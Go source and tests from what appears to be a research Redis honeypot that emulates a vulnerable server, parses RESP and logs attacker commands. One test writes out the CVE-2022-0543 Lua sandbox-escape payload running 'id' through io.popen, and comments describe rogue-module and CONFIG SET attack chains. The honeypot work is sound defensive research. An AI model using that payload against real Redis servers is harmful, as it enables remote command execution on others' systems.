func TestFakeDataTypeProbing(t *testing.T) {
	hp := New(Options{FakeData: map[string]string{
		"user:001": "alice:s3cret",
		"user:002": "bob:hunter2",
	}})
	hp.Store().SetHash("session:9", map[string]string{"token": "zz"})
	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
		cl := newClient(t, conn)
		keys := cl.do("KEYS", "*")
		if len(keys.Array) != 3 {
			t.Fatalf("KEYS = %#v", keys)
		}
		// The paper observed adversaries TYPE-probing every fake entry.
		for _, k := range keys.Array {
			cl.do("TYPE", k.Str)
		}
		if v := cl.do("TYPE", "user:001"); v.Str != "string" {
			t.Errorf("TYPE user = %#v", v)
		}
		if v := cl.do("TYPE", "session:9"); v.Str != "hash" {
			t.Errorf("TYPE hash = %#v", v)
		}
	})
	var typeCount int
	for _, c := range hptest.Commands(events) {
		if c == "TYPE" {
			typeCount++
		}
	}
	if typeCount != 5 {
		t.Fatalf("TYPE count = %d, want 5", typeCount)
	}
}

func TestCVE20220543Probe(t *testing.T) {
	hp := New(Options{})
	lua := `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res`
	hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
		cl := newClient(t, conn)
		v := cl.do("EVAL", lua, "0")
		if !strings.Contains(v.Str, "uid=") {
			t.Fatalf("EVAL reply = %#v, want id output", v)
		}
	})
}

func TestProtocolErrorLogged(t *testing.T) {
	hp := New(Options{})
	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
		// An oversized bulk declaration: hostile framing.
		if _, err := conn.Write([]byte("$999999999\r\n")); err != nil {
			t.Fatal(err)
		}
		br := bufio.NewReader(conn)
		v, err := ReadValue(br)
		if err != nil {
			t.Fatalf("expected error reply, got %v", err)
		}
		if v.Kind != ErrorString {
			t.Fatalf("reply = %#v", v)
		}
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "PROTOCOL-ERROR" {
		t.Fatalf("commands = %v", cmds)
	}
}

func TestJDWPHandshakeOnRedis(t *testing.T) {
	// Paper Listing 11: a JDWP handshake hits Redis; it is invalid inline
	// syntax and should surface as an unknown command, not kill the
	// session.
	hp := New(Options{})
	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
		if _, err := conn.Write([]byte("JDWP-Handshake\r\n")); err != nil {
			t.Fatal(err)
		}
		v, err := ReadValue(bufio.NewReader(conn))
		if err != nil {
			t.Fatal(err)
		}
		if v.Kind != ErrorString {
			t.Fatalf("reply = %#v", v)
		}
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "JDWP-HANDSHAKE" {
		t.Fatalf("commands = %v", cmds)
	}
}

func TestQuitClosesSession(t *testing.T) {
	hp := New(Options{})
	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
		cl := newClient(t, conn)
		if v := cl.do("QUIT"); v.Str != "OK" {
			t.Fatalf("QUIT = %#v", v)
		}
	})
	if got := hptest.Commands(events); len(got) != 1 || got[0] != "QUIT" {
		t.Fatalf("commands = %v", got)
	}
}
