package redis

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"

	"decoydb/internal/core"
)

// Version string the honeypot advertises in INFO, matching a plausible
// vulnerable deployment (CVE-2022-0543 targets Debian-packaged 5.x/6.x).
const Version = "5.0.7"

// Options configure a Honeypot instance.
type Options struct {
	// FakeData seeds the store with bait entries before serving (the
	// paper's fake-data configuration used 200 Mockaroo user records).
	FakeData map[string]string
}

// Honeypot is a medium-interaction Redis honeypot. One Honeypot may serve
// many connections concurrently; the keyspace is shared across sessions of
// the same instance, like a real single-process Redis.
type Honeypot struct {
	store *Store
}

// New creates a Honeypot, seeding fake data if configured.
func New(opts Options) *Honeypot {
	h := &Honeypot{store: NewStore()}
	for k, v := range opts.FakeData {
		h.store.Set(k, v)
	}
	return h
}

// Store exposes the backing keyspace (used by tests and examples).
func (h *Honeypot) Store() *Store { return h.store }

// normalize builds the action string used by the classifier and TF
// clustering: the upper-cased command name, plus the subcommand for
// compound commands (CONFIG SET dir, MODULE LOAD, ...). Argument values
// are deliberately dropped so hash-randomised bot runs cluster together
// (paper Section 6.1).
func normalize(args []string) string {
	if len(args) == 0 {
		return ""
	}
	cmd := strings.ToUpper(args[0])
	switch cmd {
	case "CONFIG":
		if len(args) >= 3 {
			return fmt.Sprintf("CONFIG %s %s", strings.ToUpper(args[1]), strings.ToLower(args[2]))
		}
		if len(args) >= 2 {
			return "CONFIG " + strings.ToUpper(args[1])
		}
	case "MODULE", "CLIENT", "CLUSTER", "SCRIPT", "DEBUG", "COMMAND", "SLOWLOG":
		if len(args) >= 2 {
			return cmd + " " + strings.ToUpper(args[1])
		}
	case "SLAVEOF", "REPLICAOF":
		if len(args) >= 2 && strings.EqualFold(args[1], "no") {
			return cmd + " NO ONE"
		}
		return cmd
	}
	return cmd
}

func rawOf(args []string) string { return strings.Join(args, " ") }

// HandleConn serves one client connection.
func (h *Honeypot) HandleConn(ctx context.Context, conn net.Conn, s *core.Session) error {
	s.Connect()
	br := bufio.NewReaderSize(conn, 8192)
	w := bufio.NewWriterSize(conn, 8192)
	for {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		args, err := ReadCommand(br)
		if err != nil {
			if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
				return nil
			}
			if errors.Is(err, ErrProtocol) {
				// Real Redis answers protocol errors then closes. The
				// malformed line itself is still an observation worth
				// logging (e.g. JDWP handshakes, RDP cookies hit 6379).
				s.Command("PROTOCOL-ERROR", err.Error())
				_ = WriteValue(w, Err("ERR Protocol error"))
				_ = w.Flush()
				return nil
			}
			return err
		}
		if len(args) == 0 {
			continue
		}
		s.Command(normalize(args), rawOf(args))
		reply, stop := h.dispatch(args)
		if err := WriteValue(w, reply); err != nil {
			return err
		}
		if err := w.Flush(); err != nil {
			return err
		}
		if stop {
			return nil
		}
	}
}

// Handler returns a core.Handler bound to this honeypot.
func (h *Honeypot) Handler() core.Handler {
	return core.HandlerFunc(func(ctx context.Context, conn net.Conn, s *core.Session) error {
		return h.HandleConn(ctx, conn, s)
	})
}

func (h *Honeypot) dispatch(args []string) (reply Value, stop bool) {
	cmd := strings.ToUpper(args[0])
	argc := len(args) - 1
	switch cmd {
	case "PING":
		if argc >= 1 {
			return Bulk(args[1]), false
		}
		return Simple("PONG"), false
	case "ECHO":
		if argc >= 1 {
			return Bulk(args[1]), false
		}
		return wrongArity(cmd), false
	case "QUIT":
		return Simple("OK"), true
	case "AUTH":
		// Default config: no requirepass set, exactly what the paper's
		// deployments (and the open instances attackers hunt) look like.
		return Err("ERR Client sent AUTH, but no password is set"), false
	case "SELECT":
		return Simple("OK"), false
	case "SET":
		if argc < 2 {
			return wrongArity(cmd), false
		}
		h.store.Set(args[1], args[2])
		return Simple("OK"), false
	case "GET":
		if argc < 1 {
			return wrongArity(cmd), false
		}
		if v, ok := h.store.Get(args[1]); ok {
			return Bulk(v), false
		}
		return NullBulk(), false
	case "DEL", "UNLINK":
		if argc < 1 {
			return wrongArity(cmd), false
		}
		return Int(int64(h.store.Del(args[1:]...))), false
	case "EXISTS":
		if argc < 1 {
			return wrongArity(cmd), false
		}
		return Int(int64(h.store.Exists(args[1:]...))), false
	case "TYPE":
		if argc < 1 {
			return wrongArity(cmd), false
		}
		return Simple(h.store.Type(args[1])), false
	case "KEYS":
		pat := "*"
		if argc >= 1 {
			pat = args[1]
		}
		keys := h.store.Keys(pat)
		vs := make([]Value, len(keys))
		for i, k := range keys {
			vs[i] = Bulk(k)
		}
		return Arr(vs...), false
	case "SCAN":
		keys := h.store.Keys("*")
		vs := make([]Value, len(keys))
		for i, k := range keys {
			vs[i] = Bulk(k)
		}
		return Arr(Bulk("0"), Arr(vs...)), false
	case "DBSIZE":
		return Int(int64(h.store.Len())), false
	case "FLUSHDB", "FLUSHALL":
		h.store.Flush()
		return Simple("OK"), false
	case "SAVE", "BGSAVE", "BGREWRITEAOF":
		return Simple("OK"), false
	case "CONFIG":
		return h.config(args), false
	case "INFO":
		return Bulk(infoPayload(h.store.Len())), false
	case "SLAVEOF", "REPLICAOF":
		return Simple("OK"), false
	case "MODULE":
		if argc >= 1 && strings.EqualFold(args[1], "LOAD") {
			// Pretend the module loaded: attackers chain MODULE LOAD
			// /tmp/exp.so with system.exec (P2PInfect, Listing 1) and the
			// follow-up commands are what we want to capture.
			return Simple("OK"), false
		}
		if argc >= 1 && strings.EqualFold(args[1], "UNLOAD") {
			return Simple("OK"), false
		}
		return Arr(), false
	case "SYSTEM.EXEC":
		// Only "exists" once a rogue module claims to be loaded; answering
		// with an empty bulk keeps the attack script talking.
		return Bulk(""), false
	case "EVAL":
		// CVE-2022-0543 abuses the Lua sandbox; respond like the PoC
		// expects for the probing `id` command so we capture escalation.
		if argc >= 1 && strings.Contains(args[1], "io.popen") {
			return Bulk("uid=999(redis) gid=999(redis) groups=999(redis)\n"), false
		}
		return NullBulk(), false
	case "CLIENT":
		if argc >= 1 && strings.EqualFold(args[1], "LIST") {
			return Bulk("id=3 addr=127.0.0.1:0 fd=8 name= age=0 idle=0 flags=N db=0\n"), false
		}
		if argc >= 1 && strings.EqualFold(args[1], "SETNAME") {
			return Simple("OK"), false
		}
		return Simple("OK"), false
	case "COMMAND":
		return Arr(), false
	case "HGETALL":
		if argc < 1 {
			return wrongArity(cmd), false
		}
		hash, ok := h.store.Hash(args[1])
		if !ok {
			return Arr(), false
		}
		vs := make([]Value, 0, 2*len(hash))
		for k, v := range hash {
			vs = append(vs, Bulk(k), Bulk(v))
		}
		return Arr(vs...), false
	case "TTL", "PTTL":
		return Int(-1), false
	case "EXPIRE", "PERSIST":
		return Int(1), false
	case "SHUTDOWN":
		// Real redis closes the connection without a reply; do the same
		// but answer an error first is wrong — just close.
		return Simple("OK"), true
	default:
		return Err(fmt.Sprintf("ERR unknown command `%s`, with args beginning with: ", args[0])), false
	}
}

func (h *Honeypot) config(args []string) Value {
	if len(args) < 2 {
		return wrongArity("CONFIG")
	}
	switch strings.ToUpper(args[1]) {
	case "GET":
		if len(args) < 3 {
			return wrongArity("CONFIG")
		}
		if v, ok := h.store.ConfigGet(args[2]); ok {
			return Arr(Bulk(strings.ToLower(args[2])), Bulk(v))
		}
		return Arr()
	case "SET":
		if len(args) < 4 {
			return wrongArity("CONFIG")
		}
		h.store.ConfigSet(args[2], args[3])
		return Simple("OK")
	case "REWRITE", "RESETSTAT":
		return Simple("OK")
	}
	return Err("ERR Unknown CONFIG subcommand")
}

func wrongArity(cmd string) Value {
	return Err(fmt.Sprintf("ERR wrong number of arguments for '%s' command", strings.ToLower(cmd)))
}

func infoPayload(dbsize int) string {
	var b strings.Builder
	fmt.Fprintf(&b, "# Server\r\nredis_version:%s\r\nredis_mode:standalone\r\nos:Linux 5.4.0-90-generic x86_64\r\narch_bits:64\r\nprocess_id:1\r\ntcp_port:6379\r\n", Version)
	b.WriteString("# Clients\r\nconnected_clients:1\r\n")
	b.WriteString("# Memory\r\nused_memory:1015072\r\nused_memory_human:991.28K\r\n")
	b.WriteString("# Persistence\r\nloading:0\r\nrdb_bgsave_in_progress:0\r\n")
	b.WriteString("# Replication\r\nrole:master\r\nconnected_slaves:0\r\n")
	fmt.Fprintf(&b, "# Keyspace\r\ndb0:keys=%d,expires=0,avg_ttl=0\r\n", dbsize)
	return b.String()
}
