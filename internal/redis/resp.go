// Package redis implements a medium-interaction Redis honeypot modelled on
// RedisHoneyPot (cypwnpwnsocute/RedisHoneyPot), the medium-interaction
// honeypot the paper deployed on port 6379. It speaks RESP2, emulates the
// command surface attackers probe (SET/GET/CONFIG/SLAVEOF/MODULE/...),
// and can be seeded with fake credential data per the paper's fake-data
// configuration.
package redis

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
)

// Protocol limits. Real Redis allows 512 MB bulk strings; a honeypot has no
// reason to buffer anywhere near that from an unauthenticated stranger.
const (
	MaxBulkLen   = 1 << 20 // 1 MiB
	MaxArrayLen  = 1024
	MaxInlineLen = 1 << 16
)

// ErrProtocol reports malformed RESP input.
var ErrProtocol = errors.New("redis: protocol error")

// ValueKind discriminates RESP value types.
type ValueKind byte

// RESP2 value kinds.
const (
	SimpleString ValueKind = '+'
	ErrorString  ValueKind = '-'
	Integer      ValueKind = ':'
	BulkString   ValueKind = '$'
	Array        ValueKind = '*'
)

// Value is a parsed RESP value.
type Value struct {
	Kind  ValueKind
	Str   string
	Int   int64
	Null  bool
	Array []Value
}

// Simple constructs a simple-string value.
func Simple(s string) Value { return Value{Kind: SimpleString, Str: s} }

// Err constructs an error value.
func Err(s string) Value { return Value{Kind: ErrorString, Str: s} }

// Int constructs an integer value.
func Int(n int64) Value { return Value{Kind: Integer, Int: n} }

// Bulk constructs a bulk-string value.
func Bulk(s string) Value { return Value{Kind: BulkString, Str: s} }

// NullBulk constructs the RESP nil bulk string.
func NullBulk() Value { return Value{Kind: BulkString, Null: true} }

// Arr constructs an array value.
func Arr(vs ...Value) Value { return Value{Kind: Array, Array: vs} }

// Encode appends the RESP2 wire form of v to dst.
func Encode(dst []byte, v Value) []byte {
	switch v.Kind {
	case SimpleString:
		dst = append(dst, '+')
		dst = append(dst, v.Str...)
	case ErrorString:
		dst = append(dst, '-')
		dst = append(dst, v.Str...)
	case Integer:
		dst = append(dst, ':')
		dst = strconv.AppendInt(dst, v.Int, 10)
	case BulkString:
		if v.Null {
			return append(dst, "$-1\r\n"...)
		}
		dst = append(dst, '$')
		dst = strconv.AppendInt(dst, int64(len(v.Str)), 10)
		dst = append(dst, '\r', '\n')
		dst = append(dst, v.Str...)
	case Array:
		if v.Null {
			return append(dst, "*-1\r\n"...)
		}
		dst = append(dst, '*')
		dst = strconv.AppendInt(dst, int64(len(v.Array)), 10)
		dst = append(dst, '\r', '\n')
		for _, e := range v.Array {
			dst = Encode(dst, e)
		}
		return dst
	}
	return append(dst, '\r', '\n')
}

// WriteValue writes v to w in RESP2 wire form.
func WriteValue(w io.Writer, v Value) error {
	_, err := w.Write(Encode(nil, v))
	return err
}

func readLine(r *bufio.Reader) (string, error) {
	line, err := r.ReadString('\n')
	if err != nil {
		// A final unterminated line still carries signal: JDWP
		// handshakes and similar cross-protocol probes arrive without a
		// trailing newline before the client disconnects.
		if (errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF)) && len(line) > 0 {
			return line, nil
		}
		return "", err
	}
	if len(line) > MaxInlineLen {
		return "", fmt.Errorf("%w: line too long", ErrProtocol)
	}
	line = strings.TrimSuffix(line, "\n")
	line = strings.TrimSuffix(line, "\r")
	return line, nil
}

// ReadValue parses one RESP value from r. It is used both by the honeypot
// (client commands) and by simulated attackers (server replies).
func ReadValue(r *bufio.Reader) (Value, error) {
	t, err := r.ReadByte()
	if err != nil {
		return Value{}, err
	}
	switch ValueKind(t) {
	case SimpleString, ErrorString:
		line, err := readLine(r)
		if err != nil {
			return Value{}, err
		}
		return Value{Kind: ValueKind(t), Str: line}, nil
	case Integer:
		line, err := readLine(r)
		if err != nil {
			return Value{}, err
		}
		n, err := strconv.ParseInt(line, 10, 64)
		if err != nil {
			return Value{}, fmt.Errorf("%w: bad integer %q", ErrProtocol, line)
		}
		return Int(n), nil
	case BulkString:
		line, err := readLine(r)
		if err != nil {
			return Value{}, err
		}
		n, err := strconv.ParseInt(line, 10, 64)
		if err != nil {
			return Value{}, fmt.Errorf("%w: bad bulk length %q", ErrProtocol, line)
		}
		if n == -1 {
			return NullBulk(), nil
		}
		if n < 0 || n > MaxBulkLen {
			return Value{}, fmt.Errorf("%w: bulk length %d out of range", ErrProtocol, n)
		}
		buf := make([]byte, n+2)
		if _, err := io.ReadFull(r, buf); err != nil {
			return Value{}, err
		}
		if buf[n] != '\r' || buf[n+1] != '\n' {
			return Value{}, fmt.Errorf("%w: bulk missing CRLF", ErrProtocol)
		}
		return Bulk(string(buf[:n])), nil
	case Array:
		line, err := readLine(r)
		if err != nil {
			return Value{}, err
		}
		n, err := strconv.ParseInt(line, 10, 64)
		if err != nil {
			return Value{}, fmt.Errorf("%w: bad array length %q", ErrProtocol, line)
		}
		if n == -1 {
			return Value{Kind: Array, Null: true}, nil
		}
		if n < 0 || n > MaxArrayLen {
			return Value{}, fmt.Errorf("%w: array length %d out of range", ErrProtocol, n)
		}
		if n == 0 {
			return Value{Kind: Array}, nil
		}
		vs := make([]Value, 0, n)
		for i := int64(0); i < n; i++ {
			e, err := ReadValue(r)
			if err != nil {
				return Value{}, err
			}
			vs = append(vs, e)
		}
		return Value{Kind: Array, Array: vs}, nil
	default:
		// Not a RESP type byte: treat the rest of the line as an inline
		// command, which real Redis also accepts.
		if err := r.UnreadByte(); err != nil {
			return Value{}, err
		}
		line, err := readLine(r)
		if err != nil {
			return Value{}, err
		}
		fields := strings.Fields(line)
		vs := make([]Value, len(fields))
		for i, f := range fields {
			vs[i] = Bulk(f)
		}
		return Value{Kind: Array, Array: vs}, nil
	}
}

// ReadCommand reads one client command: a RESP array of bulk strings or an
// inline command line. It returns the argument vector.
func ReadCommand(r *bufio.Reader) ([]string, error) {
	v, err := ReadValue(r)
	if err != nil {
		return nil, err
	}
	if v.Kind != Array || v.Null {
		return nil, fmt.Errorf("%w: command must be an array", ErrProtocol)
	}
	args := make([]string, 0, len(v.Array))
	for _, e := range v.Array {
		switch e.Kind {
		case BulkString, SimpleString:
			args = append(args, e.Str)
		case Integer:
			args = append(args, strconv.FormatInt(e.Int, 10))
		default:
			return nil, fmt.Errorf("%w: command element kind %c", ErrProtocol, e.Kind)
		}
	}
	return args, nil
}

// EncodeCommand encodes an argument vector as a RESP array of bulk strings,
// the form clients send.
func EncodeCommand(args ...string) []byte {
	vs := make([]Value, len(args))
	for i, a := range args {
		vs[i] = Bulk(a)
	}
	return Encode(nil, Arr(vs...))
}
