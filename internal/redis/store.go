package redis

import (
	"sort"
	"strings"
	"sync"
)

// entryType mirrors the strings Redis' TYPE command reports.
type entryType string

// Entry types supported by the honeypot store.
const (
	TypeString entryType = "string"
	TypeHash   entryType = "hash"
	TypeList   entryType = "list"
)

type entry struct {
	typ  entryType
	str  string
	hash map[string]string
	list []string
}

// Store is the in-memory keyspace behind the honeypot. It is intentionally
// small: enough for attackers to SET droppers, for the fake-data config to
// hold bait credentials, and for TYPE/KEYS probing (the paper observed
// adversaries walking the fake entries with TYPE one by one).
type Store struct {
	mu   sync.RWMutex
	data map[string]entry
	// config holds CONFIG GET/SET state; SLAVEOF-style attacks rewrite
	// dir/dbfilename, and the session log captures every change.
	config map[string]string
}

// NewStore returns an empty store with Redis-like default config values.
func NewStore() *Store {
	return &Store{
		data: make(map[string]entry),
		config: map[string]string{
			"dir":            "/var/lib/redis",
			"dbfilename":     "dump.rdb",
			"rdbcompression": "yes",
			"save":           "3600 1 300 100 60 10000",
			"appendonly":     "no",
			"maxmemory":      "0",
			"logfile":        "",
		},
	}
}

// Set stores a string value.
func (s *Store) Set(key, val string) {
	s.mu.Lock()
	s.data[key] = entry{typ: TypeString, str: val}
	s.mu.Unlock()
}

// SetHash stores a hash value.
func (s *Store) SetHash(key string, fields map[string]string) {
	h := make(map[string]string, len(fields))
	for k, v := range fields {
		h[k] = v
	}
	s.mu.Lock()
	s.data[key] = entry{typ: TypeHash, hash: h}
	s.mu.Unlock()
}

// Get returns the string value for key.
func (s *Store) Get(key string) (string, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	e, ok := s.data[key]
	if !ok || e.typ != TypeString {
		return "", false
	}
	return e.str, true
}

// Hash returns a copy of the hash stored at key.
func (s *Store) Hash(key string) (map[string]string, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	e, ok := s.data[key]
	if !ok || e.typ != TypeHash {
		return nil, false
	}
	out := make(map[string]string, len(e.hash))
	for k, v := range e.hash {
		out[k] = v
	}
	return out, true
}

// Type reports the Redis type name for key, or "none".
func (s *Store) Type(key string) string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	e, ok := s.data[key]
	if !ok {
		return "none"
	}
	return string(e.typ)
}

// Del removes keys and reports how many existed.
func (s *Store) Del(keys ...string) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, k := range keys {
		if _, ok := s.data[k]; ok {
			delete(s.data, k)
			n++
		}
	}
	return n
}

// Exists reports how many of the given keys exist.
func (s *Store) Exists(keys ...string) int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	n := 0
	for _, k := range keys {
		if _, ok := s.data[k]; ok {
			n++
		}
	}
	return n
}

// Keys returns the sorted keys matching a glob pattern (only "*", prefix*
// and exact match are supported, which covers observed attacker usage).
func (s *Store) Keys(pattern string) []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var out []string
	for k := range s.data {
		if globMatch(pattern, k) {
			out = append(out, k)
		}
	}
	sort.Strings(out)
	return out
}

// Len reports the number of keys (DBSIZE).
func (s *Store) Len() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.data)
}

// Flush removes all keys (FLUSHDB / FLUSHALL).
func (s *Store) Flush() {
	s.mu.Lock()
	s.data = make(map[string]entry)
	s.mu.Unlock()
}

// ConfigGet returns the configuration value for key.
func (s *Store) ConfigGet(key string) (string, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	v, ok := s.config[strings.ToLower(key)]
	return v, ok
}

// ConfigSet stores a configuration value.
func (s *Store) ConfigSet(key, val string) {
	s.mu.Lock()
	s.config[strings.ToLower(key)] = val
	s.mu.Unlock()
}

func globMatch(pattern, s string) bool {
	switch {
	case pattern == "*" || pattern == "":
		return true
	case strings.HasSuffix(pattern, "*") && strings.Count(pattern, "*") == 1:
		return strings.HasPrefix(s, strings.TrimSuffix(pattern, "*"))
	case strings.HasPrefix(pattern, "*") && strings.Count(pattern, "*") == 1:
		return strings.HasSuffix(s, strings.TrimPrefix(pattern, "*"))
	default:
		return pattern == s
	}
}
