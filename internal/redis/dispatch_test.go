package redis

import (
	"net"
	"strings"
	"testing"

	"decoydb/internal/hptest"
)

// TestDispatchSurface drives the remaining command surface end to end:
// every command an attacker tool is known to issue must answer with a
// plausible Redis reply.
func TestDispatchSurface(t *testing.T) {
	hp := New(Options{})
	hp.Store().SetHash("h", map[string]string{"f": "v", "g": "w"})
	hp.Store().Set("k", "val")

	type step struct {
		cmd      []string
		wantKind ValueKind
		contains string
	}
	steps := []step{
		{[]string{"ECHO", "hello"}, BulkString, "hello"},
		{[]string{"ECHO"}, ErrorString, "wrong number of arguments"},
		{[]string{"PING", "pong?"}, BulkString, "pong?"},
		{[]string{"SELECT", "2"}, SimpleString, "OK"},
		{[]string{"EXISTS", "k", "nope"}, Integer, ""},
		{[]string{"UNLINK", "nope"}, Integer, ""},
		{[]string{"TYPE"}, ErrorString, "wrong number"},
		{[]string{"KEYS"}, Array, ""},
		{[]string{"SCAN", "0"}, Array, ""},
		{[]string{"DBSIZE"}, Integer, ""},
		{[]string{"SAVE"}, SimpleString, "OK"},
		{[]string{"BGSAVE"}, SimpleString, "OK"},
		{[]string{"BGREWRITEAOF"}, SimpleString, "OK"},
		{[]string{"CONFIG", "GET", "dir"}, Array, ""},
		{[]string{"CONFIG", "GET", "doesnotexist"}, Array, ""},
		{[]string{"CONFIG", "REWRITE"}, SimpleString, "OK"},
		{[]string{"CONFIG", "FROB"}, ErrorString, "Unknown CONFIG subcommand"},
		{[]string{"CONFIG"}, ErrorString, "wrong number"},
		{[]string{"CONFIG", "SET", "dir"}, ErrorString, "wrong number"},
		{[]string{"REPLICAOF", "NO", "ONE"}, SimpleString, "OK"},
		{[]string{"MODULE", "UNLOAD", "system"}, SimpleString, "OK"},
		{[]string{"MODULE", "LIST"}, Array, ""},
		{[]string{"EVAL", "return 1", "0"}, BulkString, ""},
		{[]string{"CLIENT", "LIST"}, BulkString, "addr="},
		{[]string{"CLIENT", "SETNAME", "bot"}, SimpleString, "OK"},
		{[]string{"CLIENT", "GETNAME"}, SimpleString, "OK"},
		{[]string{"COMMAND"}, Array, ""},
		{[]string{"HGETALL", "h"}, Array, ""},
		{[]string{"HGETALL", "missing"}, Array, ""},
		{[]string{"HGETALL"}, ErrorString, "wrong number"},
		{[]string{"TTL", "k"}, Integer, ""},
		{[]string{"PTTL", "k"}, Integer, ""},
		{[]string{"EXPIRE", "k", "100"}, Integer, ""},
		{[]string{"PERSIST", "k"}, Integer, ""},
		{[]string{"GET"}, ErrorString, "wrong number"},
		{[]string{"GET", "missing"}, BulkString, ""},
		{[]string{"SET", "only-key"}, ErrorString, "wrong number"},
		{[]string{"DEL"}, ErrorString, "wrong number"},
		{[]string{"EXISTS"}, ErrorString, "wrong number"},
		{[]string{"TOTALLYUNKNOWN", "x"}, ErrorString, "unknown command"},
	}
	hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
		cl := newClient(t, conn)
		for _, s := range steps {
			v := cl.do(s.cmd...)
			if v.Kind != s.wantKind {
				t.Errorf("%v: kind = %c, want %c (%#v)", s.cmd, v.Kind, s.wantKind, v)
			}
			if s.contains != "" && !strings.Contains(v.Str, s.contains) {
				t.Errorf("%v: reply %q missing %q", s.cmd, v.Str, s.contains)
			}
		}
		// HGETALL field/value pairing.
		v := cl.do("HGETALL", "h")
		if len(v.Array) != 4 {
			t.Errorf("HGETALL pairs = %d", len(v.Array))
		}
	})
}

func TestShutdownClosesConnection(t *testing.T) {
	hp := New(Options{})
	hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
		cl := newClient(t, conn)
		cl.do("SHUTDOWN")
		var one [1]byte
		if _, err := conn.Read(one[:]); err == nil {
			t.Error("connection open after SHUTDOWN")
		}
	})
}

func TestStoreHashAccessor(t *testing.T) {
	s := NewStore()
	s.SetHash("h", map[string]string{"a": "1"})
	got, ok := s.Hash("h")
	if !ok || got["a"] != "1" {
		t.Fatalf("Hash = %v, %v", got, ok)
	}
	// The returned map is a copy; mutating it must not affect the store.
	got["a"] = "mutated"
	if again, _ := s.Hash("h"); again["a"] != "1" {
		t.Fatal("Hash returned shared state")
	}
	if _, ok := s.Hash("missing"); ok {
		t.Fatal("missing hash found")
	}
	s.Set("str", "x")
	if _, ok := s.Hash("str"); ok {
		t.Fatal("string answered as hash")
	}
}
