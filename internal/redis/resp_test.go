package redis

import (
	"bufio"
	"bytes"
	"errors"
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

func parse(t *testing.T, b []byte) Value {
	t.Helper()
	v, err := ReadValue(bufio.NewReader(bytes.NewReader(b)))
	if err != nil {
		t.Fatalf("ReadValue(%q): %v", b, err)
	}
	return v
}

func TestEncodeDecodeBasics(t *testing.T) {
	cases := []Value{
		Simple("OK"),
		Err("ERR boom"),
		Int(-42),
		Bulk("hello\r\nworld"),
		Bulk(""),
		NullBulk(),
		Arr(),
		Arr(Bulk("SET"), Bulk("k"), Bulk("v")),
		Arr(Int(1), Simple("a"), Arr(Bulk("nested"))),
	}
	for _, want := range cases {
		got := parse(t, Encode(nil, want))
		if !reflect.DeepEqual(got, want) {
			t.Errorf("round trip mismatch:\n got %#v\nwant %#v", got, want)
		}
	}
}

func TestInlineCommand(t *testing.T) {
	v := parse(t, []byte("PING extra\r\n"))
	if v.Kind != Array || len(v.Array) != 2 || v.Array[0].Str != "PING" || v.Array[1].Str != "extra" {
		t.Fatalf("inline parse = %#v", v)
	}
}

func TestReadCommand(t *testing.T) {
	args, err := ReadCommand(bufio.NewReader(bytes.NewReader(EncodeCommand("CONFIG", "SET", "dir", "/tmp"))))
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"CONFIG", "SET", "dir", "/tmp"}
	if !reflect.DeepEqual(args, want) {
		t.Fatalf("ReadCommand = %v, want %v", args, want)
	}
}

func TestBulkLengthBounds(t *testing.T) {
	_, err := ReadValue(bufio.NewReader(strings.NewReader("$99999999999\r\n")))
	if !errors.Is(err, ErrProtocol) {
		t.Fatalf("oversized bulk: %v", err)
	}
	_, err = ReadValue(bufio.NewReader(strings.NewReader("$-7\r\n")))
	if !errors.Is(err, ErrProtocol) {
		t.Fatalf("negative bulk: %v", err)
	}
	_, err = ReadValue(bufio.NewReader(strings.NewReader("*999999\r\n")))
	if !errors.Is(err, ErrProtocol) {
		t.Fatalf("oversized array: %v", err)
	}
}

func TestBulkMissingCRLF(t *testing.T) {
	_, err := ReadValue(bufio.NewReader(strings.NewReader("$3\r\nabcXY")))
	if !errors.Is(err, ErrProtocol) {
		t.Fatalf("bulk without CRLF: %v", err)
	}
}

// genValue builds a random RESP value of bounded depth for the
// property-based round-trip test.
func genValue(r *rand.Rand, depth int) Value {
	kind := r.Intn(5)
	if depth <= 0 && kind == 4 {
		kind = 3
	}
	cleanStr := func() string {
		n := r.Intn(12)
		b := make([]byte, n)
		for i := range b {
			b[i] = byte('a' + r.Intn(26))
		}
		return string(b)
	}
	switch kind {
	case 0:
		return Simple(cleanStr())
	case 1:
		return Err("ERR " + cleanStr())
	case 2:
		return Int(int64(r.Uint64()))
	case 3:
		if r.Intn(8) == 0 {
			return NullBulk()
		}
		// Bulk strings may contain any bytes, including CRLF.
		n := r.Intn(64)
		b := make([]byte, n)
		r.Read(b)
		return Bulk(string(b))
	default:
		n := r.Intn(4)
		if n == 0 {
			return Arr() // decode yields a nil Array for *0
		}
		vs := make([]Value, n)
		for i := range vs {
			vs[i] = genValue(r, depth-1)
		}
		return Arr(vs...)
	}
}

// Property: Encode→ReadValue is the identity on arbitrary RESP values.
